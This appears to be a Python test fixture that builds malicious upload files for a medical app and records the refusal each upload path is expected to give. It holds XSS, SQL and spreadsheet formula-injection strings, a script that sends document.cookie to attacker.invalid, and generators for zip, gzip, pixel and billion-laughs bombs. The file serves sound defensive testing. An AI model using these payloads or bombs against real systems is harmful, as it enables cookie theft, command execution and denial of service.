"""A corpus of hostile uploads, generated at test time (nothing big is committed).

Each :class:`Hostile` is a file a careless or malicious user could upload: empty, huge, truncated,
polyglot and mislabelled files, decompression bombs, PDFs with thousands of pages or encryption,
WAVs with absurd sample rates or hours of silence, CSVs with a million-character cell. ``expect`` names,
per upload path, the words the refusal must contain (``None``: the path may accept the file, as long as
it does so cleanly).
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
from dataclasses import dataclass, field

import numpy as np
from PIL import Image

from tests.helpers.prescriptions import _assemble, encrypted_pdf, png_bytes, text_pdf
from tests.helpers.speech import SAMPLE_RATE, tone_bursts, wav_bytes

# Text that must stay inert in every free-text field.
INJECTIONS = [
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">',
    "[click me](javascript:alert(1))",
    "![pixel](http://attacker.invalid/p.png)",
    "**bold** _it_ `code` # heading",
    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "Robert'); DROP TABLE patients;--",
    "{{7*7}} ${7*7} %s %n",
]


@dataclass(frozen=True)
class Hostile:
    name: str  # test id
    filename: str  # the name the browser would send
    data: bytes
    expect: dict[str, str | None] = field(default_factory=dict)  # path -> word the message must contain


def _wav_header(sample_rate: int, channels: int, bits: int, n_bytes: int) -> bytes:
    block = max(1, channels * bits // 8)
    fmt = struct.pack("<HHIIHH", 1, channels, sample_rate, (sample_rate * block) & 0xFFFFFFFF, block & 0xFFFF, bits)
    return (
        b"RIFF"
        + struct.pack("<I", 36 + n_bytes)
        + b"WAVE"
        + b"fmt "
        + struct.pack("<I", 16)
        + fmt
        + b"data"
        + struct.pack("<I", n_bytes)
    )


def silent_wav(seconds: float, sample_rate: int = 8000) -> bytes:
    """8-bit unsigned mono silence (value 128): cheap to build even for hours."""
    n = int(seconds * sample_rate)
    return _wav_header(sample_rate, 1, 8, n) + b"\x80" * n


def _speechy_wav() -> bytes:
    return wav_bytes(tone_bursts(2.0))


def many_pages_pdf(pages: int) -> bytes:
    """A valid PDF with ``pages`` blank pages (a few dozen bytes each)."""
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(pages))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages)]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"] * pages
    return _assemble(objects)


def pixel_bomb_png(side: int = 20_000) -> bytes:
    """A 1-bit PNG of ``side`` x ``side`` pixels: a few hundred KB on disk, ~400 megapixels decoded."""
    out = io.BytesIO()
    Image.new("1", (side, side), 1).save(out, format="PNG", optimize=True)
    return out.getvalue()


def zip_bomb_export(megabytes: int = 64) -> bytes:
    """An "Apple Health export.zip" whose export.xml inflates ~1000x: a valid root, then megabytes of blanks."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z, z.open("apple_health_export/export.xml", "w") as f:
        f.write(b'<?xml version="1.0"?>\n<HealthData locale="en_US">\n')
        chunk = b" " * (1024 * 1024)
        for _ in range(megabytes):
            f.write(chunk)
        f.write(b"</HealthData>\n")
    return out.getvalue()


def billion_laughs_xml() -> bytes:
    """The classic entity-expansion bomb: 10 levels of 10x, a billion "lol"s if expanded."""
    entities = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)]
    return f'<?xml version="1.0"?><!DOCTYPE HealthData [{"".join(entities)}]><HealthData>&l9;</HealthData>'.encode()


def wide_cell_csv(pid: str, cell: int = 1_000_000) -> bytes:
    header = "patient_id,timestamp,metric,value,unit\n"
    rows = [
        f"{pid},2024-03-01T06:30:00+05:30,resting_hr,{'9' * cell},bpm",
        f"{pid},2024-03-02T06:30:00+05:30,{'x' * cell},55,bpm",
        f"{'P' * cell},2024-03-03T06:30:00+05:30,resting_hr,55,bpm",
        f"{pid},2024-03-04T06:30:00+05:30,resting_hr,55,{'u' * cell}",
    ]
    return (header + "\n".join(rows) + "\n").encode()


def injection_csv(pid: str) -> bytes:
    rows = [
        f'{pid},2024-03-0{i + 1}T06:30:00+05:30,"{s.replace(chr(34), chr(34) * 2)}",55,bpm'
        for i, s in enumerate(INJECTIONS[:9])
    ]
    return ("patient_id,timestamp,metric,value,unit\n" + "\n".join(rows) + "\n").encode()


def build_corpus(pid: str, huge_bytes: int) -> list[Hostile]:
    """Every hostile file, for a registered patient ``pid``; ``huge_bytes`` exceeds the configured upload limits."""
    audio = _speechy_wav()
    png = png_bytes(Image.new("RGB", (400, 300), "white"))
    pdf = text_pdf([["Tab Metformin 500 mg 1-0-1"]])
    html = (
        b"<!DOCTYPE html><html><body><script>fetch('http://attacker.invalid/'+document.cookie)</script></body></html>"
    )
    return [
        Hostile("empty", "empty.wav", b"", {"scribe": "empty", "digitize": "empty", "metrics": "empty"}),
        Hostile(
            "huge-junk", "big.wav", b"\x00" * huge_bytes, {"scribe": "limit", "digitize": "limit", "metrics": None}
        ),
        Hostile(
            "truncated-wav-header", "cut.wav", audio[:30], {"scribe": "damaged", "digitize": "not", "metrics": None}
        ),
        Hostile(
            "truncated-png", "cut.png", png[: len(png) // 2], {"scribe": "not", "digitize": "damaged", "metrics": None}
        ),
        Hostile("truncated-pdf", "cut.pdf", pdf[: len(pdf) // 3], {"scribe": "not", "digitize": None, "metrics": None}),
        Hostile(
            "polyglot-png-html-zip",
            "cat.png",
            png + html + zip_bomb_export(1),
            {"scribe": "not", "digitize": None, "metrics": None},
        ),
        Hostile(
            "polyglot-pdf-html", "page.html", html + b"\n" + pdf, {"scribe": "not", "digitize": None, "metrics": None}
        ),
        Hostile("mislabelled-pdf-as-wav", "visit.wav", pdf, {"scribe": "not", "digitize": None, "metrics": None}),
        Hostile(
            "mislabelled-wav-as-jpg", "rx.jpg", audio, {"scribe": "not an audio", "digitize": "not", "metrics": None}
        ),
        Hostile(
            "mislabelled-exe-as-pdf",
            "rx.pdf",
            b"MZ\x90\x00" + b"\x00" * 4000,
            {"scribe": "not", "digitize": "not", "metrics": None},
        ),
        Hostile("mislabelled-html-as-png", "photo.png", html, {"scribe": "not", "digitize": "not", "metrics": None}),
        Hostile(
            "heic-photo",
            "IMG_0001.jpg",
            b"\x00\x00\x00\x18ftypheic" + b"\x00" * 200,
            {"scribe": None, "digitize": "JPEG", "metrics": None},
        ),
        Hostile(
            "pixel-bomb-png", "scan.png", pixel_bomb_png(), {"scribe": "not", "digitize": "resize", "metrics": None}
        ),
        Hostile(
            "gzip-bomb-csv",
            "data.csv",
            gzip.compress(b"0" * 50_000_000),
            {"scribe": "not", "digitize": "not", "metrics": "gzip"},
        ),
        Hostile(
            "zip-bomb-export", "export.zip", zip_bomb_export(), {"scribe": "not", "digitize": "not", "metrics": None}
        ),
        Hostile(
            "billion-laughs-xml",
            "export.xml",
            billion_laughs_xml(),
            {"scribe": "not", "digitize": "not", "metrics": None},
        ),
        Hostile(
            "pdf-3000-pages",
            "history.pdf",
            many_pages_pdf(3000),
            {"scribe": "not", "digitize": "pages", "metrics": None},
        ),
        Hostile(
            "pdf-encrypted", "locked.pdf", encrypted_pdf(), {"scribe": "not", "digitize": "password", "metrics": None}
        ),
        Hostile(
            "wav-rate-1hz",
            "slow.wav",
            _wav_header(1, 1, 16, 32000) + b"\x01\x02" * 16000,
            {"scribe": None, "digitize": "not", "metrics": None},
        ),
        Hostile(
            "wav-rate-4ghz",
            "fast.wav",
            _wav_header(4_000_000_000, 1, 16, 32000) + b"\x01\x02" * 16000,
            {"scribe": None, "digitize": "not", "metrics": None},
        ),
        Hostile(
            "wav-zero-channels",
            "mono0.wav",
            _wav_header(SAMPLE_RATE, 0, 16, 32000) + b"\x00" * 32000,
            {"scribe": None, "digitize": "not", "metrics": None},
        ),
        Hostile(
            "wav-two-hours-silence",
            "night.wav",
            silent_wav(2 * 3600),
            {"scribe": "limit", "digitize": "limit", "metrics": None},
        ),
        Hostile(
            "csv-million-char-cells",
            "metrics.csv",
            wide_cell_csv(pid),
            {"scribe": "not", "digitize": "not", "metrics": None},
        ),
        Hostile(
            "csv-formula-injection",
            "metrics.csv",
            injection_csv(pid),
            {"scribe": "not", "digitize": "not", "metrics": None},
        ),
        Hostile(
            "random-bytes",
            "noise.bin",
            np.random.default_rng(3).bytes(200_000),
            {"scribe": "not", "digitize": "not", "metrics": None},
        ),
    ]
